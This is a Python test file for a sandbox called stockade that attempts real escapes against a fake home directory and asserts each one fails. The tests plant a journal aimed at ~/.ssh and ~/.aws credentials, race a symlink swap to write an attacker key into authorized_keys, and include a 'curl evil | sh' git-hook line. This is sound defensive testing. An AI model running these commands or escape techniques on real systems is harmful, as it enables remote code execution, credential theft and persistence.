"""Escapes through the preview/apply path, each attempted for real under bubblewrap (the
coding-agent policy over a private fake HOME, workspace, cache and audit):

* a recovery journal planted in the workspace (absolute paths, symlinked stage entries)
  aimed at the fake ``~/.bashrc``, ``~/.ssh/id_rsa``, ``~/.aws/credentials``,
  ``.git/hooks/pre-commit`` and a directory to ``rmtree``: the next run must ignore it;
* the apply race: a directory swapped for a symlink to the fake ``~/.ssh`` by another
  sandboxed run while the host applies: nothing may be written through it;
* concurrent edits: a file edited, or created inside a directory the preview deletes or
  replaces, while the sandboxed command runs: the apply is refused, the edit kept;
* setuid bits from the upper dir, and an unusable state directory (a file; read-only).
"""

from __future__ import annotations

import hashlib
import os
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from stockade.runtime import apply as apply_mod
from stockade.runtime.execute import run_confined
from stockade.runtime.limits import Limits
from stockade.runtime.session import run
from tests.runtime.conftest import POLICY, Box, box_root, make_box
from tests.runtime.test_preview import snapshot as tree_of  # every entry below a path, links not followed

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="bubblewrap is Linux only")


@pytest.fixture()
def box(monkeypatch: pytest.MonkeyPatch) -> Iterator[Box]:
    """A fresh fake machine per test (an attack that works on old code destroys it), with
    stockade's cache and audit private to it."""
    import shutil

    root = box_root()
    try:
        made = make_box(root)
        monkeypatch.setenv("STOCKADE_CACHE_DIR", str(root / "cache"))
        monkeypatch.setenv("XDG_STATE_HOME", str(root / "state"))
        monkeypatch.delenv("STOCKADE_AUDIT", raising=False)
        yield made
    finally:
        shutil.rmtree(root, ignore_errors=True)


def environ(box: Box) -> dict[str, str]:
    return {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(box.home), "TMPDIR": str(box.root / "tmp"),
            "LANG": "C.UTF-8"}


def stockade_run(box: Box, command: str | list[str], **options: object):
    """One `stockade run` through the library, output captured, audit private."""
    out = bytearray()
    options.setdefault("approve", True)
    return run(command, policy=str(POLICY), workspace=str(box.workspace), audit=str(box.root / "audit.jsonl"),
               environ=environ(box), stdout=out.extend, stderr=out.extend, **options)  # type: ignore[arg-type]


def sandboxed(box: Box, script: str) -> None:
    """Run shell text under the box's bubblewrap prefix (another sandboxed command)."""
    result = run_confined(box.prefix, ["/bin/sh", "-c", script], box.env, Limits(timeout=30), cwd=str(box.workspace),
                          stdout=lambda b: None, stderr=lambda b: None)
    assert result.exit_status == 0, result.stderr_tail


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- 1. a recovery journal planted in the workspace ---------------------------------------


def test_a_journal_planted_in_the_workspace_is_never_trusted(box: Box) -> None:
    home, ws = box.home, box.workspace
    (home / ".ssh" / "id_rsa").write_text("RSA PRIVATE KEY canary\n")
    (home / "projects" / "keep").mkdir(parents=True)
    (home / "projects" / "keep" / "work.txt").write_text("precious\n")
    os.chmod(home / ".aws" / "credentials", 0o600)
    before = {p: tree_of(p) for p in (home / ".ssh", home / ".aws", home / "projects", ws / ".git")}
    bashrc = digest(home / ".bashrc")
    # what the old recovery trusted: `applying`, absolute paths, stage entries that are
    # symlinks or attacker files; every operation aims outside what the sandbox may write
    journal = (
        '{"state": "applying", "ops": ['
        f'{{"op": "replace", "path": "{home}/.bashrc", "n": 0}}, '
        f'{{"op": "replace", "path": "{ws}/.git/hooks/pre-commit", "n": 1}}, '
        f'{{"op": "replace", "path": "{home}/.ssh/id_rsa", "n": 2}}, '
        f'{{"op": "chmod", "path": "{home}/.aws/credentials", "n": 3, "old_mode": 511}}, '
        f'{{"op": "replace", "path": "{home}/projects", "n": 4}}]}}')
    (ws / "plant.sh").write_text(
        "set -e\n"
        "S=.stockade-apply\n"
        "mkdir -p $S/new/0 $S/new/1 $S/new/4 $S/old\n"
        "printf 'curl evil | sh\\n' > $S/old/0\n"
        "printf '#!/bin/sh\\ncurl evil | sh\\n' > evil-hook.sh\n"
        "ln -s \"$PWD/evil-hook.sh\" $S/old/1\n"
        "ln -s /nonexistent $S/old/4\n"
        f"cat > $S/journal.json <<'EOF'\n{journal}\nEOF\n")
    planted = stockade_run(box, ["/bin/sh", "plant.sh"])
    assert planted.ran and planted.exit_status == 0
    assert (ws / ".stockade-apply" / "journal.json").exists()
    nxt = stockade_run(box, ["true"])  # the next run, as the user
    assert digest(home / ".bashrc") == bashrc and not (home / ".bashrc").is_symlink()
    for path, entries in before.items():  # id_rsa, credentials' mode, projects, hooks
        assert tree_of(path) == entries, path
    assert box.intact()
    assert nxt.ran and nxt.recovered is None
    # and it stays plain data: a preview applied afterwards treats it like any other file
    applied = stockade_run(box, "echo ok > out.txt", preview=True, apply=True)
    assert applied.preview is not None and applied.preview.applied
    assert (ws / "out.txt").read_text() == "ok\n" and (ws / ".stockade-apply" / "journal.json").exists()
    assert {p: tree_of(p) for p in before} == before and box.intact()


def test_the_sandbox_cannot_plant_a_journal_in_the_state_dir(box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    """The journal lives in stockade's state dir, read-only inside the sandbox even where
    the policy lets it write (here the cache dir is under the writable $TMPDIR)."""
    from stockade.runtime.apply import journal_dir

    cache = box.root / "tmp" / "stockade-cache"
    monkeypatch.setenv("STOCKADE_CACHE_DIR", str(cache))
    directory = journal_dir(str(box.workspace), str(cache))
    code = ("import os, sys\n"
            "try:\n    os.makedirs(sys.argv[1]); open(sys.argv[1] + '/journal.json', 'w').write('{}')\n"
            "except OSError as e:\n    print(e)\n")
    outcome = stockade_run(box, ["python3", "-c", code, directory])  # the analyzer cannot see in: approved
    assert outcome.ran and outcome.exit_status == 0 and cache.is_dir()
    assert not os.path.exists(directory)


# -- 7. the apply race -------------------------------------------------------------------


def _race_workspace(box: Box) -> None:
    (box.workspace / "a.txt").write_text("original\n")
    (box.workspace / "keys").mkdir()
    (box.workspace / "keys" / "README").write_text("keys\n")
    time.sleep(0.02)  # older than the preview (ctimes come from a coarse clock)


def test_a_directory_swapped_for_a_symlink_during_the_apply_is_never_written_through(
        box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    _race_workspace(box)
    ssh = box.home / ".ssh"
    before = tree_of(ssh)
    real_rename = apply_mod._rename
    swapped = {"done": False}

    def racing_rename(*args: object, **kwargs: object) -> None:
        if not swapped["done"]:  # another sandboxed run, between two renames of the apply
            swapped["done"] = True
            sandboxed(box, f"rm -rf keys && ln -s {ssh} keys")
        real_rename(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(apply_mod, "_rename", racing_rename)
    outcome = stockade_run(box, "echo changed > a.txt && echo 'ssh-ed25519 AAAA attacker' > keys/authorized_keys",
                           preview=True, apply=True)
    assert swapped["done"]
    assert not (ssh / "authorized_keys").exists() and tree_of(ssh) == before and box.intact()
    assert outcome.preview is not None and not outcome.preview.applied
    assert outcome.preview.conflicts == ("keys",)
    assert (box.workspace / "a.txt").read_text() == "original\n"  # rolled back
    assert not [n for n in os.listdir(box.workspace) if n.startswith(".stockade-")]


def test_a_directory_swapped_before_the_apply_is_a_conflict(box: Box) -> None:
    _race_workspace(box)
    ssh = box.home / ".ssh"
    before = tree_of(ssh)

    def swap_then_apply(preview: object) -> bool:
        sandboxed(box, f"rm -rf keys && ln -s {ssh} keys")
        return True

    outcome = stockade_run(box, "echo 'ssh-ed25519 AAAA attacker' > keys/authorized_keys", preview=True,
                           apply=swap_then_apply)
    assert not (ssh / "authorized_keys").exists() and tree_of(ssh) == before and box.intact()
    assert outcome.preview is not None and not outcome.preview.applied and outcome.preview.conflicts == ("keys",)
    assert os.readlink(box.workspace / "keys") == str(ssh)  # the workspace as the other run left it


# -- 12. concurrent edits ------------------------------------------------------------------


class Writer:
    """The user, editing the workspace on the host while the sandboxed command runs: the
    command touches ``started`` (in the writable $TMPDIR) and waits for ``edited``."""

    def __init__(self, box: Box, edit):
        self.started = box.root / "tmp" / "started"
        self.edited = box.root / "tmp" / "edited"
        self.edit = edit
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        deadline = time.monotonic() + 60
        while not self.started.exists() and time.monotonic() < deadline:
            time.sleep(0.01)
        self.edit()
        self.edited.touch()

    def script(self, text: str) -> str:
        """``text``, then the hand-shake with the writer."""
        return (f"{text}; touch {self.started}; "
                f"i=0; while [ ! -e {self.edited} ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done")


def _file(box: Box, rel: str, text: str) -> Path:
    path = box.workspace / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_a_file_edited_during_the_preview_is_not_overwritten(box: Box) -> None:
    notes = _file(box, "notes.txt", "v1\n")
    other = _file(box, "other.txt", "o\n")
    time.sleep(0.02)
    writer = Writer(box, lambda: notes.write_text("v1\nthe user's edit\n"))
    outcome = stockade_run(box, writer.script("echo agent >> notes.txt; echo new > other.txt"), preview=True,
                           apply=True)
    writer.thread.join(5)
    assert notes.read_text() == "v1\nthe user's edit\n"  # the edit is kept
    assert outcome.preview is not None and not outcome.preview.applied
    assert outcome.preview.conflicts == ("notes.txt",)
    assert other.read_text() == "o\n"  # all or nothing


def test_a_file_created_in_a_directory_the_preview_deletes_is_kept(box: Box) -> None:
    _file(box, "build/out.o", "obj\n")
    time.sleep(0.02)
    writer = Writer(box, lambda: (box.workspace / "build" / "user.txt").write_text("mine\n"))
    outcome = stockade_run(box, writer.script("rm -rf build"), preview=True, apply=True)
    writer.thread.join(5)
    assert (box.workspace / "build" / "user.txt").read_text() == "mine\n"
    assert (box.workspace / "build" / "out.o").read_text() == "obj\n"
    assert outcome.preview is not None and not outcome.preview.applied
    assert "build" in outcome.preview.conflicts or "build/user.txt" in outcome.preview.conflicts


def test_a_file_changed_in_a_directory_the_preview_replaces_is_kept(box: Box) -> None:
    keep = _file(box, "out/keep.txt", "k1\n")
    time.sleep(0.02)
    writer = Writer(box, lambda: keep.write_text("k2 by the user\n"))
    outcome = stockade_run(box, writer.script("rm -rf out && mkdir out && echo fresh > out/a"), preview=True,
                           apply=True)
    writer.thread.join(5)
    assert keep.read_text() == "k2 by the user\n" and not (box.workspace / "out" / "a").exists()
    assert outcome.preview is not None and not outcome.preview.applied
    assert outcome.preview.conflicts == ("out/keep.txt",)


def test_edits_elsewhere_do_not_stop_the_apply(box: Box) -> None:
    notes = _file(box, "notes.txt", "v1\n")
    mine = _file(box, "src/mine.txt", "m1\n")
    time.sleep(0.02)
    writer = Writer(box, lambda: mine.write_text("m2\n"))
    outcome = stockade_run(box, writer.script("echo agent >> notes.txt; echo n > src/new.txt"), preview=True,
                           apply=True)
    writer.thread.join(5)
    assert outcome.preview is not None and outcome.preview.applied and not outcome.preview.conflicts
    assert notes.read_text() == "v1\nagent\n" and mine.read_text() == "m2\n"
    assert (box.workspace / "src" / "new.txt").read_text() == "n\n"


def _cli_env(box: Box, cache: Path) -> dict[str, str]:
    env = dict(os.environ, HOME=str(box.home), TMPDIR=str(box.root / "tmp"), STOCKADE_CACHE_DIR=str(cache),
               XDG_STATE_HOME=str(box.root / "state"))
    env.pop("STOCKADE_AUDIT", None)
    return env


def _cli(box: Box, cache: Path, *args: str, wrap: list[str] | None = None) -> subprocess.CompletedProcess:
    argv = [sys.executable, "-m", "stockade", "run", "--policy", str(POLICY), "--workspace", str(box.workspace),
            "--approve", *args]
    root = str(Path(__file__).resolve().parents[2])
    env = _cli_env(box, cache)
    env["PYTHONPATH"] = root + (os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else "")
    return subprocess.run([*(wrap or []), *argv], env=env, capture_output=True, text=True, timeout=120)


def test_cli_refuses_the_apply_with_exit_1_and_names_the_file(box: Box) -> None:
    notes = _file(box, "notes.txt", "v1\n")
    time.sleep(0.02)
    writer = Writer(box, lambda: notes.write_text("v1\nthe user's edit\n"))
    done = _cli(box, box.root / "cache", "--preview", "--apply", "-c", writer.script("echo agent >> notes.txt"))
    writer.thread.join(5)
    assert notes.read_text() == "v1\nthe user's edit\n"
    assert done.returncode == 1, done.stderr
    assert "R526" in done.stderr and "`notes.txt`" in done.stderr and "Traceback" not in done.stderr


# -- setuid bits, and an unusable state directory --------------------------------------------


def test_the_sandbox_cannot_set_setuid_bits_in_a_preview(box: Box) -> None:
    """The seccomp filter refuses setuid/setgid modes inside, preview runs included."""
    (box.workspace / "tools").mkdir()
    code = ("import os\n"
            "open('tools/run', 'w').write('#!/bin/sh\\n')\n"
            "try:\n    os.chmod('tools/run', 0o6755)\nexcept PermissionError:\n    print('refused')\n")
    outcome = stockade_run(box, ["python3", "-c", code], preview=True, apply=True)
    assert outcome.exit_status == 0
    assert outcome.preview is not None and outcome.preview.applied
    mode = os.lstat(box.workspace / "tools" / "run").st_mode
    assert not mode & (stat.S_ISUID | stat.S_ISGID), oct(mode)


def test_setuid_and_setgid_bits_are_stripped_when_applied(box: Box, tmp_path: Path) -> None:
    """Defence in depth: an upper dir that holds setuid/setgid entries anyway (made here on
    the host, as a sandbox without the filter could) is applied without those bits."""
    from stockade.runtime.apply import apply_changes

    (box.workspace / "tools").mkdir()
    from stockade.runtime.preview import start_time_ns

    since = start_time_ns()
    time.sleep(0.02)
    upper = tmp_path / "upper"
    (upper / "tools" / "d").mkdir(parents=True)
    (upper / "tools" / "run").write_text("#!/bin/sh\n")
    os.chmod(upper / "tools" / "run", 0o6755)
    (upper / "tools" / "d" / "f").write_text("x\n")
    os.chmod(upper / "tools" / "d" / "f", 0o4755)
    os.chmod(upper / "tools", 0o2775)
    state = tmp_path / "state"
    state.mkdir()
    assert apply_changes(str(box.workspace), str(upper), since_ns=since, state_root=str(state)) > 0
    for rel in ("tools/run", "tools/d/f", "tools"):
        mode = os.lstat(box.workspace / rel).st_mode
        assert not mode & (stat.S_ISUID | stat.S_ISGID), (rel, oct(mode))
    assert stat.S_IMODE(os.lstat(box.workspace / "tools" / "run").st_mode) == 0o755


def test_preview_with_a_state_dir_that_is_a_file_is_a_clear_error(box: Box) -> None:
    cache = box.root / "cache-file"
    cache.write_text("not a directory\n")
    done = _cli(box, cache, "--preview", "-c", "echo x > y")
    assert done.returncode == 3, done.stderr
    assert "R524" in done.stderr and "Traceback" not in done.stderr
    assert not (box.workspace / "y").exists()


def test_preview_with_a_read_only_state_dir_is_a_clear_error(box: Box) -> None:
    cache = box.root / "cache-ro"
    cache.mkdir()
    if os.geteuid() == 0:  # root writes through modes: make it a read-only mount, in a private mount namespace
        wrap = ["unshare", "--mount", "--propagation", "private", "sh", "-c",
                f"mount --bind {cache} {cache} && mount -o remount,bind,ro {cache} && exec \"$@\"", "sh"]
    else:
        os.chmod(cache, 0o555)
        wrap = []
    done = _cli(box, cache, "--preview", "-c", "echo x > y", wrap=wrap)
    assert done.returncode == 3, done.stderr
    assert "R524" in done.stderr and "Traceback" not in done.stderr
    assert not (box.workspace / "y").exists()


# -- the workspace itself swapped for a symlink before the overlay is mounted ----------------


def test_a_workspace_swapped_for_a_symlink_is_never_previewed(box: Box) -> None:
    """A workspace whose parent the sandbox may write (here under $TMPDIR) is replaced by a
    symlink to the fake ``~/.ssh`` after the run was judged, before the overlay is mounted:
    refused (R520), never an overlay over the link's target.  (A guard: on the old code
    bubblewrap happened to fail to set up, R507, so nothing leaked there either.)"""
    project = box.root / "tmp" / "proj"
    project.mkdir()
    (project / "code.py").write_text("print('hi')\n")
    ssh = box.home / ".ssh"

    def swap_then_approve(judgement: object) -> bool:
        sandboxed(box, f"mv {project} {project}.real && ln -s {ssh} {project}")
        return True

    out = bytearray()
    code = "import os; print(sorted(os.listdir('.'))); print(open('id_ed25519').read())"
    try:
        outcome = run(["python3", "-c", code], policy=str(POLICY), workspace=str(project),
                      audit=str(box.root / "audit.jsonl"), environ=environ(box), stdout=out.extend,
                      stderr=out.extend, preview=True, apply=True, confirm=swap_then_approve)
    except Exception as exc:  # refused: R520 (the workspace was replaced) or R521
        assert "R52" in str(exc), exc
    else:
        assert not outcome.ran or outcome.exit_status != 0
    assert b"PRIVATE KEY canary" not in out
    assert box.intact() and sorted(os.listdir(ssh)) == ["id_ed25519"]


def test_what_the_upper_dir_holds_is_applied_as_data(box: Box) -> None:
    """Symlinks stay symlinks (never their target's content), hard links become separate
    files, and a fifo inside a new directory is refused with nothing applied."""
    ssh = box.home / ".ssh"
    outcome = stockade_run(box, ["python3", "-c", (
        "import os\n"
        f"os.mkdir('links'); os.symlink(os.path.join('{box.home}', '.' + 'ssh', 'id_ed25519'), 'links/key')\n"
        "open('links/h1', 'w').write('same\\n'); os.link('links/h1', 'links/h2')\n")], preview=True, apply=True)
    assert outcome.exit_status == 0 and outcome.preview is not None and outcome.preview.applied
    links = box.workspace / "links"
    assert os.readlink(links / "key") == f"{ssh}/id_ed25519"
    h1, h2 = os.lstat(links / "h1"), os.lstat(links / "h2")
    assert h1.st_ino != h2.st_ino and (links / "h2").read_text() == "same\n"
    before = tree_of(box.workspace)
    with pytest.raises(Exception) as refused:
        stockade_run(box, ["python3", "-c", "import os; os.mkdir('pipes'); os.mkfifo('pipes/f'); "
                                            "open('pipes/g', 'w').write('g')"], preview=True, apply=True)
    assert "R523" in str(refused.value)
    assert tree_of(box.workspace) == before


def test_the_next_run_rolls_back_an_apply_killed_part_way(box: Box) -> None:
    """The journal the apply writes is the one `stockade run` looks for (same state dir),
    and the next run rolls the workspace back to what it was."""
    from stockade.runtime.preview import Overlay
    from tests.runtime.test_preview import _apply_killed_at

    main = box.workspace / "src" / "main.py"
    before = main.read_bytes()
    time.sleep(0.02)
    overlay = Overlay(str(box.workspace), base_dir=str(box.root / "tmp"))
    try:
        overlay.probe()
        result = run_confined(box.prefix, ["/bin/sh", "-c", "echo new > src/main.py; echo n > added.txt"], box.env,
                              Limits(timeout=20), cwd=str(box.workspace), pre_exec=overlay.pre_exec(),
                              stdout=lambda b: None, stderr=lambda b: None)
        assert result.exit_status == 0
        # bubblewrap's mount points for protected paths that do not exist (placeholders) are
        # in the upper dir: a run leaves them out of the apply, and so does this one
        ws = str(box.workspace) + "/"
        exclude = frozenset(p[len(ws):] for p in box.placeholders if p.startswith(ws))
        assert os.WIFSIGNALED(_apply_killed_at(box.workspace, overlay, None, 2, exclude))  # type: ignore[arg-type]
    finally:
        overlay.cleanup()
    assert (box.workspace / "added.txt").exists() or not main.exists()  # killed part way
    outcome = stockade_run(box, ["true"])
    assert outcome.recovered == "rolled back"
    assert main.read_bytes() == before and not (box.workspace / "added.txt").exists()
    assert not [n for _d, ds, fs in os.walk(box.workspace) for n in ds + fs if n.startswith(".stockade-")]
    assert stockade_run(box, ["true"]).recovered is None
